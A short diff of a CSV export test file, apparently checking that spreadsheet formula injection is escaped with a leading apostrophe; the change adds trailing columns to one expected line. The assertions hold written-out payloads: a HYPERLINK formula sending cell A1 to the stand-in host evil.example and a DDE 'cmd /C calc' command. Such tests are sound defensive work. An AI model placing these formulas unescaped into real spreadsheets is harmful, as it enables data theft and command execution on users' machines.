@@ -38,7 +38,7 @@ describe('writeExport files', () => {
     expect(disclosures.startsWith('id,force,kind,reference,publication_ref,title,url,')).toBe(true);
     expect(disclosures).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
     expect(disclosures).toContain(`,"'+cmd|"" /C calc""!A0",`);
-    expect(disclosures).toContain(`,'@SUM(1+1); -2+3; \tTabbed; '=already quoted\r\n`);
+    expect(disclosures).toContain(`,'@SUM(1+1); -2+3; \tTabbed; '=already quoted,west-midlands,,\r\n`);
     const figures = read('figures.csv').toString('utf8').split('\r\n');
     expect(figures[0]).toBe(fieldsOf('figures').map((f) => f.name).join(','));
     expect(figures[2]).toBe(`unknown/u-0123456789ab,2,-3,cases,other,,,,,,,,,,,true,change: -3,xlsx:Sheet1!B4,${'b'.repeat(64)}`);
